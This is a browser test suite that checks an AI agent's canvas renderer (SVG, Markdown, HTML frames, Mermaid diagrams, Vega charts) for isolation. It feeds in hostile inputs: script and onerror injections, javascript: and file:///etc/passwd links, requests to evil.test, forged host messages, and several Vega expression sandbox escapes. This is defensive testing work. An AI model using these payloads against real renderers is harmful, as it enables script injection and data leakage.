// What canvases of an agent must not be able to do.
import { expect, requestsOf, test } from "./canvas_fixtures";

test("a picture is shown, and an SVG runs nothing", async ({ canvas, page }) => {
  const asked = await requestsOf(page);
  await canvas.open("svg", {
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80"><rect width="120" height="80" fill="teal"/><script>fetch("https://evil.test/")</script></svg>`,
  });
  await expect(page.getByTestId("image")).toHaveJSProperty("complete", true);
  await canvas.look("svg");
  expect(asked).toEqual([]);
});

test("script in Markdown does not run, and its links go nowhere by themselves", async ({
  canvas,
  host,
  page,
}) => {
  const asked = await requestsOf(page);
  await canvas.open("markdown", {
    text: `<script>parent.hacked = 1</script><img src=x onerror="parent.hacked = 1">

[run](javascript:parent.hacked=1) [file](file:///etc/passwd) [data](data:text/html,x) [web](https://example.org/)

![picture](https://evil.test/pixel.png)`,
  });
  await page.getByText("web", { exact: true }).click();
  expect(host.called("host/openExternal")).toEqual([
    { method: "host/openExternal", params: { url: "https://example.org/" } },
  ]);
  for (const link of await page.locator("a[data-href]").all()) {
    expect(await link.getAttribute("href")).toBe("#");
  }
  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
  expect(asked).toEqual([]);
});

test("a page of the agent runs in a frame, and reaches nothing but the canvas", async ({
  canvas,
  host,
  page,
}) => {
  const asked = await requestsOf(page);
  host.expected = /evil\.test|Content Security Policy/;
  await canvas.open("html", {
    html: `<body><h1>Counter</h1><button onclick="document.title = ++count; easel.send({count})">Add</button>
<p id="facts"></p>
<script>
let count = 0;
const facts = {};
const attempt = (name, work) => { try { work(); facts[name] = "reached"; } catch { facts[name] = "refused"; } };
attempt("parent", () => parent.document.body);
attempt("storage", () => localStorage.length);
attempt("api", () => acquireVsCodeApi());
fetch("https://evil.test/?" + count).then(() => { facts.network = "reached"; }, () => { facts.network = "refused"; })
  .finally(() => { document.getElementById("facts").textContent = JSON.stringify(facts); });
new Image().src = "https://evil.test/pixel.png";
document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.test/frame"></iframe>');
</script></body>`,
  });
  const frame = page.frameLocator("[data-testid=page-frame]");
  await expect(frame.locator("#facts")).toHaveText(
    '{"parent":"refused","storage":"refused","api":"refused","network":"refused"}',
  );
  await frame.getByRole("button", { name: "Add" }).click();
  await expect(frame.getByRole("heading")).toHaveText("Counter");
  await canvas.look("html");
  expect(asked).toEqual([]);
});

test("a page of the agent cannot speak for the host, nor for another canvas", async ({
  canvas,
  page,
}) => {
  const forged = (channel: string) => ({
    kind: "notification",
    method: "easel/ahp/action",
    params: { channel, action: { type: "canvas/updated", status: "forged" } },
  });
  const { channel } = await canvas.open("html", {
    html: `<script>
const forged = (channel) => (${forged.toString()})(channel);
addEventListener("click", () => {
  for (const message of [forged(document.body.dataset.channel), null, 1, {kind: "response", id: 1}]) {
    parent.postMessage(message, "*");
  }
  easel.send("done");
});
</script><button>Go</button>`,
  });
  const frame = page.frameLocator("[data-testid=page-frame]");
  await frame.locator("body").evaluate((body, value) => {
    body.dataset.channel = value;
  }, channel);
  const sent = page.waitForEvent("console", (message) => message.text() === "done");
  await page.evaluate(() => {
    addEventListener("message", ({ data }) => data?.value === "done" && console.log("done"));
  });
  await frame.getByRole("button", { name: "Go" }).click();
  await sent;
  await page.evaluate(() => new Promise(requestAnimationFrame)); // what was told is drawn
  await page.evaluate(() => new Promise(requestAnimationFrame));
  await expect(page.getByTestId("canvas-status")).toHaveCount(0);
});

test("a page of the agent has no WebRTC, nor a frame that would have it", async ({
  canvas,
  page,
}) => {
  await canvas.open("html", {
    html: `<p id="facts"></p><iframe srcdoc="one"></iframe><div><template shadowrootmode="open"><iframe srcdoc="two"></iframe></template></div>
<script>
const added = document.body.appendChild(document.createElement("iframe"));
added.srcdoc = "three";
const shadow = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "open" });
shadow.innerHTML = '<iframe srcdoc="four"></iframe>';
setTimeout(() => {
  const facts = [globalThis.RTCPeerConnection, added.isConnected, shadow.childElementCount, window.length];
  document.getElementById("facts").textContent = facts.map(String).join();
});
</script>`,
  });
  const frame = page.frameLocator("[data-testid=page-frame]");
  await expect(frame.locator("#facts")).toHaveText("undefined,false,0,0");
  expect(page.frames()).toHaveLength(2);
});

test("a link in a page of the agent scrolls in it, and leads nowhere else", async ({
  canvas,
  page,
}) => {
  await canvas.open("html", {
    html: `<a href="https://evil.test/">away</a> <a href="#end">down</a>
<div style="height: 5000px"></div><h2 id="end">The end</h2>`,
  });
  const frame = page.frameLocator("[data-testid=page-frame]");
  await frame.getByText("away").click();
  await frame.getByText("down").click();
  await expect(frame.getByRole("heading")).toBeInViewport();
});

const HOSTILE_SCRIPT = "globalThis.parent.hacked = 1";

test("a diagram runs none of its source, and its links and pictures load nothing", async ({
  canvas,
  page,
}) => {
  const asked = await requestsOf(page);
  await canvas.open("markdown", {
    text: `\`\`\`mermaid
%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "themeCSS": "* { background: url(https://evil.test/css) }"}}%%
flowchart LR
  A["<img src=x onerror='${HOSTILE_SCRIPT}'><script>${HOSTILE_SCRIPT}</script>"] --> B
  click A href "javascript:${HOSTILE_SCRIPT}"
  click B call alert()
\`\`\``,
  });
  await page.getByTestId("diagram").click();
  expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
  expect(asked).toEqual([]);
});

/** Ways from an expression of a chart to the page around it; some of them once worked. */
const WAYS_OUT = [
  `datum.constructor.constructor("${HOSTILE_SCRIPT}")()`,
  `event.view.setTimeout("${HOSTILE_SCRIPT}")`,
  `vlSelectionTuples([{datum: {}}], {fields: [{getter: [].at.constructor("${HOSTILE_SCRIPT}")}]})`,
  `replace("a", "a", [].at.constructor("${HOSTILE_SCRIPT}"))`,
];

for (const calculate of WAYS_OUT) {
  test(`a chart runs no script: ${calculate}`, async ({ canvas, page }) => {
    const asked = await requestsOf(page);
    await canvas.open("chart", {
      spec: {
        data: { values: [{ a: 1 }] },
        transform: [{ calculate, as: "b" }],
        title: `<img src=x onerror="${HOSTILE_SCRIPT}">`,
        mark: { type: "bar", tooltip: { content: "data" } },
        encoding: {
          x: { field: "a", type: "quantitative" },
          y: { field: "b", type: "quantitative" },
        },
      },
    });
    const problem = page.getByTestId("canvas-problem");
    await expect(problem.or(page.getByTestId("chart").locator("svg")).first()).toBeVisible();
    expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
    expect(asked).toEqual([]);
  });
}
